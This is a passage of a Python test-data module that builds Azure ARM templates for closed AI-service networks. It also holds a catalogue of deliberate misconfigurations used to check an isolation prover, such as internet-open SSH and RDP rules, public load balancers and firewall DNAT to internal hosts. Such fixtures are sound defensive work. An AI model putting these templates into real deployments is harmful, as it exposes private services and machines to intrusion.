"""Attacks on the proof from the network side: honest templates, and each of them with one leak that an Azure network expert knows.

A row is data: the name of the leak, the honest template that it is put into, the changes, and the obligations that may then no
longer come out proved for anything that the leak touches. No text of anybody's template is copied.
"""

from __future__ import annotations

from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass
from typing import Any, TypeAlias

Body: TypeAlias = dict[str, Any]
Change: TypeAlias = Callable[[Body], None]
SCHEMA = "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#"
NET = "Microsoft.Network"
VNET = f"{NET}/virtualNetworks"
ZONES = {
    "account": "privatelink.openai.azure.com",
    "blob": "privatelink.blob.core.windows.net",
    "vault": "privatelink.vaultcore.azure.net",
    "searchService": "privatelink.search.windows.net",
}


def res(type_: str, name: str, properties: Body | None = None, api: str = "2024-05-01", /, **more: Any) -> Body:
    """A resource as a template has it."""
    return {"type": type_, "apiVersion": api, "name": name, "location": "westeurope", "properties": properties or {}, **more}


def rid(kind: str, *names: str) -> str:
    """An expression that gives an id."""
    return "[resourceId(" + ", ".join(f"'{part}'" for part in (kind, *names)) + ")]"


def ref(kind: str, *names: str) -> Body:
    """A reference to a resource."""
    return {"id": rid(kind, *names)}


def rule(name: str, text: str) -> Body:
    """A rule of a security group: `100 in allow tcp 443 from Internet to *`."""
    priority, way, access, protocol, port, _, source, _, destination = text.split()
    many = {True: "Prefixes", False: "Prefix"}
    sources, destinations, ports = source.split(","), destination.split(","), port.split(",")
    return {
        "name": name,
        "properties": {
            "priority": int(priority),
            "direction": {"in": "Inbound", "out": "Outbound"}[way],
            "access": access.capitalize(),
            "protocol": protocol.capitalize(),
            "sourcePortRange": "*",
            f"sourceAddress{many[len(sources) > 1]}": sources if len(sources) > 1 else source,
            f"destinationAddress{many[len(destinations) > 1]}": destinations if len(destinations) > 1 else destination,
            f"destinationPortRange{'s' if len(ports) > 1 else ''}": ports if len(ports) > 1 else port,
        },
    }


def nsg(name: str, *rules: str) -> Body:
    """A security group."""
    return res(f"{NET}/networkSecurityGroups", name, {"securityRules": [rule(f"rule-{n}", text) for n, text in enumerate(rules)]})


def subnet(name: str, prefix: str, **more: Any) -> Body:
    """A private subnet."""
    return {"name": name, "properties": {"addressPrefix": prefix, "defaultOutboundAccess": False, **more}}


def network(name: str, space: str, *subnets: Body, **more: Any) -> Body:
    """A virtual network with its subnets inline."""
    return res(VNET, name, {"addressSpace": {"addressPrefixes": [space]}, "subnets": list(subnets), **more})


def machine(name: str, vnet: str, snet: str, *, at: str | None = None, **more: Any) -> list[Body]:
    """A machine with one interface."""
    part = {"subnet": ref(f"{VNET}/subnets", vnet, snet), "privateIPAllocationMethod": "Static" if at else "Dynamic", **more}
    if at:
        part["privateIPAddress"] = at
    return [
        res(f"{NET}/networkInterfaces", f"nic-{name}", {"ipConfigurations": [{"name": "ipconfig1", "properties": part}]}),
        res(
            "Microsoft.Compute/virtualMachines",
            name,
            {
                "hardwareProfile": {"vmSize": "Standard_D2s_v5"},
                "networkProfile": {"networkInterfaces": [ref(f"{NET}/networkInterfaces", f"nic-{name}")]},
            },
        ),
    ]


def endpoint(name: str, vnet: str, snet: str, kind: str, target: str, group: str, zone: str | None = "", **more: Any) -> list[Body]:
    """A private endpoint with its zone group; no zone: without."""
    zone = ZONES.get(group, "") if zone == "" else zone
    connection = {"name": name, "properties": {"privateLinkServiceId": rid(kind, target), "groupIds": [group]}}
    made = [
        res(
            f"{NET}/privateEndpoints",
            name,
            {"subnet": ref(f"{VNET}/subnets", vnet, snet), "privateLinkServiceConnections": [connection], **more},
        )
    ]
    if zone:
        configs = [{"name": "config", "properties": {"privateDnsZoneId": rid(f"{NET}/privateDnsZones", zone)}}]
        made.append(res(f"{NET}/privateEndpoints/privateDnsZoneGroups", f"{name}/default", {"privateDnsZoneConfigs": configs}))
    return made


def zone(name: str, *vnets: str) -> list[Body]:
    """A private DNS zone linked to networks."""
    links = [
        res(
            f"{NET}/privateDnsZones/virtualNetworkLinks",
            f"{name}/to-{vnet}",
            {"registrationEnabled": False, "virtualNetwork": ref(VNET, vnet)},
            "2024-06-01",
            location="global",
        )
        for vnet in vnets
    ]
    return [res(f"{NET}/privateDnsZones", name, {}, "2024-06-01", location="global"), *links]


def peer(here: str, there: str, *, both: bool = True, **flags: Any) -> list[Body]:
    """A peering, both halves or one."""
    pairs = ((here, there), (there, here)) if both else ((here, there),)
    return [
        res(
            f"{VNET}/virtualNetworkPeerings",
            f"{one}/to-{other}",
            {"remoteVirtualNetwork": ref(VNET, other), "allowVirtualNetworkAccess": True, "allowForwardedTraffic": True, **flags},
        )
        for one, other in pairs
    ]


def public_ip(name: str, sku: str = "Standard") -> Body:
    """A public address."""
    return res(f"{NET}/publicIPAddresses", name, {"publicIPAllocationMethod": "Static"}, sku={"name": sku})


def openai(name: str = "oai", **more: Any) -> Body:
    """A closed Azure OpenAI account."""
    return res(
        "Microsoft.CognitiveServices/accounts",
        name,
        {
            "customSubDomainName": name,
            "publicNetworkAccess": "Disabled",
            "disableLocalAuth": True,
            "networkAcls": {"defaultAction": "Deny"},
            **more,
        },
        "2024-10-01",
        kind="OpenAI",
        sku={"name": "S0"},
    )


def storage(name: str = "stdata", **more: Any) -> Body:
    """A closed storage account."""
    return res(
        "Microsoft.Storage/storageAccounts",
        name,
        {
            "publicNetworkAccess": "Disabled",
            "allowSharedKeyAccess": False,
            "allowBlobPublicAccess": False,
            "networkAcls": {"defaultAction": "Deny", "bypass": "None"},
            **more,
        },
        "2023-05-01",
        kind="StorageV2",
        sku={"name": "Standard_ZRS"},
    )


def vault(name: str = "kv", **more: Any) -> Body:
    """A closed key vault."""
    return res(
        "Microsoft.KeyVault/vaults",
        name,
        {
            "publicNetworkAccess": "Disabled",
            "enableRbacAuthorization": True,
            "tenantId": "[subscription().tenantId]",
            "networkAcls": {"defaultAction": "Deny", "bypass": "None"},
            "sku": {"family": "A", "name": "standard"},
            **more,
        },
        "2023-07-01",
    )


def search(name: str = "srch", **more: Any) -> Body:
    """A closed search service."""
    return res(
        "Microsoft.Search/searchServices",
        name,
        {"publicNetworkAccess": "Disabled", "disableLocalAuth": True, **more},
        "2023-11-01",
        sku={"name": "standard"},
    )


SHUT = (
    "100 in allow tcp 443 from VirtualNetwork to VirtualNetwork",
    "4000 in deny * * from * to *",
    "100 out allow tcp 443 from VirtualNetwork to 10.0.2.0/24",
    "4000 out deny * * from * to *",
)


def alone() -> list[Body]:
    """One network: a subnet with a machine, one for endpoints, four closed services."""
    group = ref(f"{NET}/networkSecurityGroups", "nsg")
    return [
        nsg("nsg", *SHUT),
        network(
            "vnet",
            "10.0.0.0/16",
            subnet("snet-app", "10.0.1.0/24", networkSecurityGroup=group),
            subnet("snet-pe", "10.0.2.0/24", networkSecurityGroup=group, privateEndpointNetworkPolicies="Enabled"),
        ),
        *machine("vm", "vnet", "snet-app"),
        openai(),
        storage(),
        vault(),
        search(),
        *endpoint("pe-oai", "vnet", "snet-pe", "Microsoft.CognitiveServices/accounts", "oai", "account"),
        *endpoint("pe-st", "vnet", "snet-pe", "Microsoft.Storage/storageAccounts", "stdata", "blob"),
        *endpoint("pe-kv", "vnet", "snet-pe", "Microsoft.KeyVault/vaults", "kv", "vault"),
        *endpoint("pe-srch", "vnet", "snet-pe", "Microsoft.Search/searchServices", "srch", "searchService"),
        *(part for name in ZONES.values() for part in zone(name, "vnet")),
    ]


def collection(name: str, priority: int, action: str, *rules: Body) -> Body:
    """A collection of firewall rules."""
    kind = "Nat" if action == "DNAT" else "Filter"
    return {
        "ruleCollectionType": f"FirewallPolicy{kind}RuleCollection",
        "name": name,
        "priority": priority,
        "action": {"type": action},
        "rules": list(rules),
    }


def fqdns(name: str, *names: str, source: str = "10.1.0.0/16", **more: Any) -> Body:
    """An application rule."""
    return {
        "ruleType": "ApplicationRule",
        "name": name,
        "sourceAddresses": [source],
        "targetFqdns": list(names),
        "protocols": [{"protocolType": "Https", "port": 443}],
        **more,
    }


def flows(name: str, source: str, destination: str, port: str = "443", protocol: str = "TCP", **more: Any) -> Body:
    """A network rule."""
    return {
        "ruleType": "NetworkRule",
        "name": name,
        "ipProtocols": [protocol],
        "sourceAddresses": [source],
        "destinationAddresses": [destination],
        "destinationPorts": [port],
        **more,
    }


def dnat(name: str, to: str, port: str = "443", *, source: str = "*", at: str = "20.50.60.70") -> Body:
    """A translation."""
    return {
        "ruleType": "NatRule",
        "name": name,
        "ipProtocols": ["TCP"],
        "sourceAddresses": [source],
        "destinationAddresses": [at],
        "destinationPorts": ["8443"],
        "translatedAddress": to,
        "translatedPort": port,
    }


def spoked() -> list[Body]:
    """A hub with a firewall, a spoke with a machine, a spoke with the endpoint of an account, and a spoke of somebody else's."""
    routed = {"routeTable": ref(f"{NET}/routeTables", "rt")}
    guarded = {"networkSecurityGroup": ref(f"{NET}/networkSecurityGroups", "nsg-spoke")}
    return [
        nsg("nsg-spoke", "4000 in deny * * from * to *", "100 out allow tcp 443 from * to 10.2.1.0/24"),
        nsg("nsg-pe", "100 in allow tcp 443 from 10.0.0.0/26,10.1.0.0/16 to *", "4000 in deny * * from * to *"),
        res(
            f"{NET}/routeTables",
            "rt",
            {
                "disableBgpRoutePropagation": True,
                "routes": [
                    {
                        "name": "all",
                        "properties": {"addressPrefix": "0.0.0.0/0", "nextHopType": "VirtualAppliance", "nextHopIpAddress": "10.0.0.4"},
                    }
                ],
            },
        ),
        network("hub", "10.0.0.0/16", {"name": "AzureFirewallSubnet", "properties": {"addressPrefix": "10.0.0.0/26"}}),
        network("app", "10.1.0.0/16", subnet("snet", "10.1.1.0/24", **routed, **guarded), dhcpOptions={"dnsServers": ["10.0.0.4"]}),
        network(
            "ai",
            "10.2.0.0/16",
            subnet(
                "snet-pe",
                "10.2.1.0/24",
                privateEndpointNetworkPolicies="Enabled",
                networkSecurityGroup=ref(f"{NET}/networkSecurityGroups", "nsg-pe"),
                **routed,
            ),
            dhcpOptions={"dnsServers": ["10.0.0.4"]},
        ),
        network("other", "10.3.0.0/16", subnet("snet", "10.3.1.0/24", **routed, **guarded), dhcpOptions={"dnsServers": ["10.0.0.4"]}),
        *(half for spoke in ("app", "ai", "other") for half in peer("hub", spoke)),
        public_ip("pip-fw"),
        res(
            f"{NET}/firewallPolicies",
            "fwp",
            {
                "sku": {"tier": "Premium"},
                "threatIntelMode": "Deny",
                "dnsSettings": {"enableProxy": True},
                "snat": {"privateRanges": ["255.255.255.255/32"]},
            },
        ),
        res(
            f"{NET}/firewallPolicies/ruleCollectionGroups",
            "fwp/rules",
            {
                "priority": 300,
                "ruleCollections": [
                    collection("network", 200, "Allow", flows("to-ai", "10.1.1.0/24", "10.2.1.0/24")),
                    collection("names", 300, "Allow", fqdns("login", "login.microsoftonline.com")),
                ],
            },
        ),
        res(
            f"{NET}/azureFirewalls",
            "fw",
            {
                "sku": {"name": "AZFW_VNet", "tier": "Premium"},
                "firewallPolicy": ref(f"{NET}/firewallPolicies", "fwp"),
                "ipConfigurations": [
                    {
                        "name": "one",
                        "properties": {
                            "subnet": ref(f"{VNET}/subnets", "hub", "AzureFirewallSubnet"),
                            "publicIPAddress": ref(f"{NET}/publicIPAddresses", "pip-fw"),
                            "privateIPAddress": "10.0.0.4",
                        },
                    }
                ],
            },
        ),
        *machine("vm", "app", "snet"),
        *machine("vm2", "other", "snet"),
        openai(),
        *endpoint(
            "pe-oai",
            "ai",
            "snet-pe",
            "Microsoft.CognitiveServices/accounts",
            "oai",
            "account",
            ipConfigurations=[
                {"name": "one", "properties": {"groupId": "account", "memberName": "default", "privateIPAddress": "10.2.1.5"}}
            ],
        ),
        *zone(ZONES["account"], "hub"),
    ]


# -- changes -------------------------------------------------------------------------------------------------------------------------


def find(template: Body, kind: str, name: str = "") -> Body:
    """The first resource of a type, by the end of it, and of a name."""
    found: Body = next(each for each in template["resources"] if each["type"].lower().endswith(kind.lower()) and name in ("", each["name"]))
    return found


def add(*resources: Body | list[Body]) -> Change:
    """Resources besides."""
    return lambda template: template["resources"].extend(
        each for part in deepcopy(resources) for each in (part if isinstance(part, list) else [part])
    )


def put(kind: str, path: str, value: Any, name: str = "") -> Change:
    """A property below `properties` of a resource; an ellipsis takes it away."""

    def change(template: Body) -> None:
        inner = find(template, kind, name)["properties"]
        *before, last = path.split(".")
        for key in before:
            inner = inner[int(key)] if isinstance(inner, list) else inner.setdefault(key, {})
        if value is ...:
            del inner[last]
        elif isinstance(inner, list):
            inner[int(last)] = value
        else:
            inner[last] = value

    return change


def drop(kind: str, name: str = "") -> Change:
    """A resource that is forgotten."""
    return lambda template: template["resources"].remove(find(template, kind, name))


def on_subnet(path: str, value: Any, vnet: str = "", number: int = 0) -> Change:
    """A property of a subnet."""
    return put("virtualNetworks", f"subnets.{number}.properties.{path}", value, vnet)


def with_subnet(vnet: str, more: Body) -> Change:
    """One subnet more in a network."""
    return lambda template: find(template, "virtualNetworks", vnet)["properties"]["subnets"].append(more)


def allow(text: str, name: str = "nsg") -> Change:
    """One rule more in a security group."""

    def change(template: Body) -> None:
        rules = find(template, "networkSecurityGroups", name)["properties"]["securityRules"]
        rules.append(rule(f"rule-{len(rules)}", text))

    return change


def route(prefix: str, hop: str, ip: str | None = None, name: str = "rt") -> Change:
    """One route more in a table."""
    return lambda template: find(template, "routeTables", name)["properties"]["routes"].append(
        {"name": "more", "properties": {"addressPrefix": prefix, "nextHopType": hop, **({"nextHopIpAddress": ip} if ip else {})}}
    )


def fw(*collections: Body) -> Change:
    """Collections more in the firewall's rules."""
    return lambda template: find(template, "ruleCollectionGroups")["properties"]["ruleCollections"].extend(collections)


@dataclass(frozen=True)
class Attack:
    """One leak."""

    name: str
    base: Callable[[], list[Body]]
    numbers: frozenset[int]
    """Obligations that may not be proved for every subject any more."""
    changes: tuple[Change, ...]

    def template(self) -> Body:
        """The honest template with the leak in it."""
        found = document(self.base())
        for change in self.changes:
            change(found)
        return found


def document(resources: list[Body]) -> Body:
    """A template of resources."""
    return {"$schema": SCHEMA, "contentVersion": "1.0.0.0", "resources": deepcopy(resources)}


def leak(name: str, base: Callable[[], list[Body]], numbers: str, *changes: Change) -> Attack:
    """A row of the table."""
    return Attack(name, base, frozenset(int(word) for word in numbers.split()), changes)


# -- the table -----------------------------------------------------------------------------------------------------------------------

ACCOUNT, STORE = "CognitiveServices/accounts", "Storage/storageAccounts"
ELSEWHERE = "/subscriptions/11111111-2222-3333-4444-555555555555/resourceGroups/theirs/providers"
ANY_IN = "200 in allow tcp {} from {} to *"
OPEN_NSG = allow("200 in allow tcp 443 from Internet to *")
NIC_PUBLIC = (
    add(public_ip("pip")),
    put("networkInterfaces", "ipConfigurations.0.properties.publicIPAddress", ref(f"{NET}/publicIPAddresses", "pip")),
)


def balancer(name: str = "lb", front: Body | None = None, sku: str = "Standard", **more: Any) -> Body:
    """A load balancer with one front end and one pool."""
    part = front or {"publicIPAddress": ref(f"{NET}/publicIPAddresses", "pip")}
    inner = {
        "frontendIPConfiguration": ref(f"{NET}/loadBalancers/frontendIPConfigurations", name, "front"),
        "backendAddressPool": ref(f"{NET}/loadBalancers/backendAddressPools", name, "pool"),
        "protocol": "Tcp",
        "frontendPort": 443,
        "backendPort": 443,
    }
    return res(
        f"{NET}/loadBalancers",
        name,
        {
            "frontendIPConfigurations": [{"name": "front", "properties": part}],
            "backendAddressPools": [{"name": "pool"}],
            "loadBalancingRules": [{"name": "web", "properties": inner}],
            **more,
        },
        sku={"name": sku},
    )


POOLED = put(
    "networkInterfaces",
    "ipConfigurations.0.properties.loadBalancerBackendAddressPools",
    [ref(f"{NET}/loadBalancers/backendAddressPools", "lb", "pool")],
)


def scale_set(vnet: str, snet: str, **more: Any) -> Body:
    """A scale set in a subnet."""
    part = {"name": "ip", "properties": {"subnet": ref(f"{VNET}/subnets", vnet, snet), **more}}
    return res(
        "Microsoft.Compute/virtualMachineScaleSets",
        "vmss",
        {
            "virtualMachineProfile": {
                "networkProfile": {
                    "networkInterfaceConfigurations": [{"name": "nic", "properties": {"primary": True, "ipConfigurations": [part]}}]
                }
            }
        },
        sku={"name": "Standard_D2s_v5", "capacity": 2},
    )


def gateway(vnet: str, snet: str, port: int = 443) -> Body:
    """An application gateway with a public front end."""
    own = f"{NET}/applicationGateways"
    return res(
        own,
        "agw",
        {
            "sku": {"name": "WAF_v2", "tier": "WAF_v2"},
            "gatewayIPConfigurations": [{"name": "ip", "properties": {"subnet": ref(f"{VNET}/subnets", vnet, snet)}}],
            "frontendIPConfigurations": [{"name": "front", "properties": {"publicIPAddress": ref(f"{NET}/publicIPAddresses", "pip")}}],
            "frontendPorts": [{"name": "port", "properties": {"port": port}}],
            "httpListeners": [
                {
                    "name": "listener",
                    "properties": {
                        "frontendIPConfiguration": ref(f"{own}/frontendIPConfigurations", "agw", "front"),
                        "frontendPort": ref(f"{own}/frontendPorts", "agw", "port"),
                        "protocol": "Https",
                    },
                }
            ],
        },
    )


WAYS_IN: tuple[Attack, ...] = (
    leak("a public address on a machine behind an open group", alone, "1", *NIC_PUBLIC, OPEN_NSG),
    leak(
        "a Basic public address, and the subnet's group is gone",
        alone,
        "1 7",
        *NIC_PUBLIC,
        put("publicIPAddresses", "x", 1),
        lambda t: find(t, "publicIPAddresses").update(sku={"name": "Basic"}),
        on_subnet("networkSecurityGroup", ...),
    ),
    leak("SSH from everywhere", alone, "1 7", *NIC_PUBLIC, allow("200 in allow tcp 22 from * to *")),
    leak("the internet in two halves", alone, "1", *NIC_PUBLIC, allow("200 in allow tcp 443 from 0.0.0.0/1,128.0.0.0/1 to *")),
    leak("one public prefix only", alone, "1", *NIC_PUBLIC, allow("200 in allow tcp 443 from 8.8.8.0/24 to *")),
    leak("a service tag of every tenant", alone, "1", *NIC_PUBLIC, allow("200 in allow tcp 443 from AzureCloud to *")),
    leak("a range of ports that holds 3389", alone, "1 7", *NIC_PUBLIC, allow("200 in allow tcp 3000-4000 from Internet to *")),
    leak("any protocol", alone, "1 7", *NIC_PUBLIC, allow("200 in allow * * from Any to *")),
    leak("an allow before the deny", alone, "1", *NIC_PUBLIC, allow("99 in allow tcp 8080 from * to 10.0.1.0/24")),
    leak(
        "a NIC that another template made",
        alone,
        "1",
        put("virtualMachines", "networkProfile.networkInterfaces.0.id", f"{ELSEWHERE}/{NET}/networkInterfaces/nic-x"),
        drop("networkInterfaces"),
    ),
    leak("a public load balancer", alone, "1", add(public_ip("pip"), balancer()), POOLED, OPEN_NSG),
    leak(
        "a public load balancer of IP addresses",
        alone,
        "1",
        add(
            public_ip("pip"),
            balancer(
                backendAddressPools=[
                    {
                        "name": "pool",
                        "properties": {"loadBalancerBackendAddresses": [{"name": "a", "properties": {"ipAddress": "10.0.1.9"}}]},
                    }
                ]
            ),
        ),
        OPEN_NSG,
    ),
    leak(
        "an inbound NAT rule to SSH",
        alone,
        "1 7",
        add(
            public_ip("pip"),
            balancer(
                loadBalancingRules=[],
                inboundNatRules=[
                    {
                        "name": "ssh",
                        "properties": {
                            "frontendIPConfiguration": ref(f"{NET}/loadBalancers/frontendIPConfigurations", "lb", "front"),
                            "protocol": "Tcp",
                            "frontendPort": 50022,
                            "backendPort": 22,
                        },
                    }
                ],
            ),
        ),
        put(
            "networkInterfaces",
            "ipConfigurations.0.properties.loadBalancerInboundNatRules",
            [ref(f"{NET}/loadBalancers/inboundNatRules", "lb", "ssh")],
        ),
        allow("200 in allow tcp 22 from Internet to *"),
    ),
    leak(
        "an inbound NAT rule as a resource of its own",
        alone,
        "1 7",
        add(
            public_ip("pip"),
            balancer(loadBalancingRules=[]),
            res(
                f"{NET}/loadBalancers/inboundNatRules",
                "lb/ssh",
                {
                    "frontendIPConfiguration": ref(f"{NET}/loadBalancers/frontendIPConfigurations", "lb", "front"),
                    "protocol": "Tcp",
                    "frontendPort": 50022,
                    "backendPort": 22,
                },
            ),
        ),
        put(
            "networkInterfaces",
            "ipConfigurations.0.properties.loadBalancerInboundNatRules",
            [ref(f"{NET}/loadBalancers/inboundNatRules", "lb", "ssh")],
        ),
        allow("200 in allow tcp 22 from Internet to *"),
    ),
    leak(
        "a pool that is a resource of its own",
        alone,
        "1",
        add(
            public_ip("pip"),
            balancer(backendAddressPools=[]),
            res(
                f"{NET}/loadBalancers/backendAddressPools",
                "lb/pool",
                {
                    "loadBalancerBackendAddresses": [
                        {"name": "a", "properties": {"ipAddress": "10.0.1.9", "virtualNetwork": ref(VNET, "vnet")}}
                    ]
                },
            ),
        ),
        OPEN_NSG,
    ),
    leak(
        "a scale set with addresses of its own",
        alone,
        "1",
        add(scale_set("vnet", "snet-app", publicIPAddressConfiguration={"name": "pub", "properties": {"idleTimeoutInMinutes": 15}})),
        OPEN_NSG,
    ),
    leak(
        "a scale set with an inbound NAT pool",
        alone,
        "1 7",
        add(
            public_ip("pip"),
            balancer(
                loadBalancingRules=[],
                inboundNatPools=[
                    {
                        "name": "rdp",
                        "properties": {
                            "frontendIPConfiguration": ref(f"{NET}/loadBalancers/frontendIPConfigurations", "lb", "front"),
                            "protocol": "Tcp",
                            "frontendPortRangeStart": 50000,
                            "frontendPortRangeEnd": 50119,
                            "backendPort": 3389,
                        },
                    }
                ],
            ),
            scale_set("vnet", "snet-app", loadBalancerInboundNatPools=[ref(f"{NET}/loadBalancers/inboundNatPools", "lb", "rdp")]),
        ),
        allow("200 in allow tcp 3389 from Internet to *"),
    ),
    leak("a public application gateway", alone, "1", add(public_ip("pip"), gateway("vnet", "snet-app")), OPEN_NSG),
    leak(
        "an application gateway in a subnet without a group",
        alone,
        "1",
        add(public_ip("pip"), gateway("vnet", "snet-agw")),
        put("virtualNetworks", "subnets.1", subnet("snet-agw", "10.0.3.0/24")),
    ),
    leak(
        "Bastion gives out links",
        alone,
        "1",
        add(
            public_ip("pip-b"),
            res(
                f"{NET}/bastionHosts",
                "bas",
                {
                    "enableShareableLink": True,
                    "ipConfigurations": [
                        {
                            "name": "ip",
                            "properties": {
                                "subnet": ref(f"{VNET}/subnets", "vnet", "AzureBastionSubnet"),
                                "publicIPAddress": ref(f"{NET}/publicIPAddresses", "pip-b"),
                            },
                        }
                    ],
                },
                sku={"name": "Standard"},
            ),
        ),
        lambda t: find(t, "virtualNetworks")["properties"]["subnets"].append(
            {"name": "AzureBastionSubnet", "properties": {"addressPrefix": "10.0.9.0/26"}}
        ),
    ),
    leak(
        "a private link service for everybody",
        alone,
        "1",
        add(
            balancer(front={"subnet": ref(f"{VNET}/subnets", "vnet", "snet-app")}),
            res(
                f"{NET}/privateLinkServices",
                "pls",
                {
                    "visibility": {"subscriptions": ["*"]},
                    "autoApproval": {"subscriptions": ["*"]},
                    "loadBalancerFrontendIpConfigurations": [ref(f"{NET}/loadBalancers/frontendIPConfigurations", "lb", "front")],
                    "ipConfigurations": [{"name": "nat", "properties": {"subnet": ref(f"{VNET}/subnets", "vnet", "snet-app")}}],
                },
            ),
        ),
        POOLED,
    ),
    leak(
        "DNAT to a machine",
        spoked,
        "1",
        fw(collection("in", 100, "DNAT", dnat("web", "10.1.1.4"))),
        allow("200 in allow tcp 443 from 10.0.0.0/26 to *", "nsg-spoke"),
    ),
    leak(
        "DNAT to a private endpoint, which the group of its subnet does not see",
        spoked,
        "1",
        fw(collection("in", 100, "DNAT", dnat("web", "10.2.1.5"))),
        on_subnet("privateEndpointNetworkPolicies", "Disabled", "ai"),
        lambda t: find(t, "networkSecurityGroups", "nsg-pe")["properties"].update(
            securityRules=[rule("no", "4000 in deny * * from * to *")]
        ),
    ),
    leak(
        "DNAT to the front end of an internal load balancer",
        spoked,
        "1",
        fw(collection("in", 100, "DNAT", dnat("web", "10.1.2.10"))),
        lambda t: find(t, "virtualNetworks", "app")["properties"]["subnets"].append(
            subnet("snet-lb", "10.1.2.0/24", networkSecurityGroup=ref(f"{NET}/networkSecurityGroups", "nsg-spoke"))
        ),
        add(
            balancer(
                front={
                    "subnet": ref(f"{VNET}/subnets", "app", "snet-lb"),
                    "privateIPAddress": "10.1.2.10",
                    "privateIPAllocationMethod": "Static",
                }
            ),
            nsg("nsg-vm", "100 in allow tcp 443 from 10.0.0.0/26 to *"),
        ),
        POOLED,
        on_subnet("networkSecurityGroup", ref(f"{NET}/networkSecurityGroups", "nsg-vm"), "app"),
    ),
    leak(
        "DNAT in the parent policy",
        spoked,
        "1",
        add(
            res(f"{NET}/firewallPolicies", "parent", {"sku": {"tier": "Premium"}}),
            res(
                f"{NET}/firewallPolicies/ruleCollectionGroups",
                "parent/dnat",
                {"priority": 100, "ruleCollections": [collection("in", 100, "DNAT", dnat("web", "10.1.1.4"))]},
            ),
        ),
        put("firewallPolicies", "basePolicy", ref(f"{NET}/firewallPolicies", "parent"), "fwp"),
        allow("200 in allow tcp 443 from 10.0.0.0/26 to *", "nsg-spoke"),
    ),
    leak(
        "DNAT to a name",
        spoked,
        "1",
        fw(
            collection(
                "in",
                100,
                "DNAT",
                {**{k: v for k, v in dnat("web", "").items() if k != "translatedAddress"}, "translatedFqdn": "app.contoso.internal"},
            )
        ),
    ),
    leak(
        "classic rules on the firewall itself",
        spoked,
        "1 5",
        put(
            "azureFirewalls",
            "natRuleCollections",
            [
                {
                    "name": "n",
                    "properties": {
                        "priority": 100,
                        "action": {"type": "Dnat"},
                        "rules": [
                            {
                                "name": "r",
                                "protocols": ["TCP"],
                                "sourceAddresses": ["*"],
                                "destinationAddresses": ["20.1.1.1"],
                                "destinationPorts": ["22"],
                                "translatedAddress": "10.1.1.4",
                                "translatedPort": "22",
                            }
                        ],
                    },
                }
            ],
        ),
    ),
    leak("a classic front door", alone, "1", add(res(f"{NET}/frontDoors", "fd", {"backendPools": []}))),
    leak(
        "a classic CDN before the account",
        alone,
        "1",
        add(
            res("Microsoft.Cdn/profiles", "cdn", sku={"name": "Standard_Microsoft"}),
            res(
                "Microsoft.Cdn/profiles/endpoints",
                "cdn/e",
                {"origins": [{"name": "o", "properties": {"hostName": "oai.openai.azure.com"}}]},
            ),
        ),
    ),
    leak(
        "a front door with a private link to storage",
        alone,
        "1",
        add(
            res("Microsoft.Cdn/profiles", "afd", sku={"name": "Premium_AzureFrontDoor"}),
            res("Microsoft.Cdn/profiles/afdEndpoints", "afd/e", {"enabledState": "Enabled"}),
            res("Microsoft.Cdn/profiles/originGroups", "afd/g", {"loadBalancingSettings": {}}),
            res(
                "Microsoft.Cdn/profiles/originGroups/origins",
                "afd/g/o",
                {
                    "hostName": "stdata.blob.core.windows.net",
                    "enabledState": "Enabled",
                    "sharedPrivateLinkResource": {
                        "privateLink": ref("Microsoft.Storage/storageAccounts", "stdata"),
                        "groupId": "blob",
                        "privateLinkLocation": "westeurope",
                        "requestMessage": "hi",
                    },
                },
            ),
            res(
                "Microsoft.Cdn/profiles/afdEndpoints/routes",
                "afd/e/r",
                {
                    "originGroup": ref("Microsoft.Cdn/profiles/originGroups", "afd", "g"),
                    "patternsToMatch": ["/*"],
                    "supportedProtocols": ["Https"],
                    "linkToDefaultDomain": "Enabled",
                    "enabledState": "Enabled",
                },
            ),
        ),
    ),
    leak(
        "a VPN gateway",
        alone,
        "1",
        add(
            public_ip("pip-g"),
            res(
                f"{NET}/virtualNetworkGateways",
                "vgw",
                {
                    "gatewayType": "Vpn",
                    "ipConfigurations": [
                        {
                            "name": "ip",
                            "properties": {
                                "subnet": ref(f"{VNET}/subnets", "vnet", "GatewaySubnet"),
                                "publicIPAddress": ref(f"{NET}/publicIPAddresses", "pip-g"),
                            },
                        }
                    ],
                    "vpnClientConfiguration": {"vpnClientAddressPool": {"addressPrefixes": ["172.16.0.0/24"]}},
                },
            ),
        ),
    ),
    leak(
        "a network in a Virtual WAN hub",
        alone,
        "1 5",
        add(
            res(f"{NET}/virtualHubs", "vhub", {"addressPrefix": "10.100.0.0/24"}),
            res(f"{NET}/virtualHubs/hubVirtualNetworkConnections", "vhub/c", {"remoteVirtualNetwork": ref(VNET, "vnet")}),
        ),
    ),
    leak(
        "peered with a network of another subscription",
        alone,
        "1 5",
        add(
            res(
                f"{VNET}/virtualNetworkPeerings",
                "vnet/to-x",
                {"remoteVirtualNetwork": {"id": f"{ELSEWHERE}/{VNET}/x"}, "allowVirtualNetworkAccess": True},
            )
        ),
    ),
    leak(
        "a mesh of a network manager",
        alone,
        "1",
        add(res(f"{NET}/networkManagers/connectivityConfigurations", "nm/mesh", {"connectivityTopology": "Mesh", "appliesToGroups": []})),
    ),
    leak(
        "an admin rule that always allows",
        alone,
        "1",
        *NIC_PUBLIC,
        add(
            res(
                f"{NET}/networkManagers/securityAdminConfigurations/ruleCollections/rules",
                "nm/c/rc/r",
                {
                    "access": "AlwaysAllow",
                    "direction": "Inbound",
                    "priority": 10,
                    "protocol": "Tcp",
                    "destinationPortRanges": ["443"],
                    "sourcePortRanges": ["0-65535"],
                    "sources": [{"addressPrefixType": "ServiceTag", "addressPrefix": "Internet"}],
                    "destinations": [{"addressPrefixType": "IPPrefix", "addressPrefix": "*"}],
                },
                kind="Custom",
            )
        ),
    ),
)


def opened(path: str, value: Any, kind: str, name: str = "") -> Change:
    """Another word for a property that opens a service."""
    return put(kind, path, value, name)


def extra(resource: Body, group: str = "", zone_name: str | None = None) -> Change:
    """One service more, with a private endpoint of its own where it has a group."""
    parts: list[Any] = [resource]
    if group:
        parts.append(endpoint("pe-extra", "vnet", "snet-pe", resource["type"], resource["name"], group, zone_name))
        if zone_name:
            parts.append(zone(zone_name, "vnet"))
    return add(*parts)


def aks(**more: Any) -> Body:
    """A private cluster whose nodes leave by the routes of their subnet."""
    pool = {"name": "system", "vnetSubnetID": rid(f"{VNET}/subnets", "vnet", "snet-app"), "mode": "System", "count": 3}
    return res(
        "Microsoft.ContainerService/managedClusters",
        "aks",
        {
            "disableLocalAccounts": True,
            "apiServerAccessProfile": {"enablePrivateCluster": True},
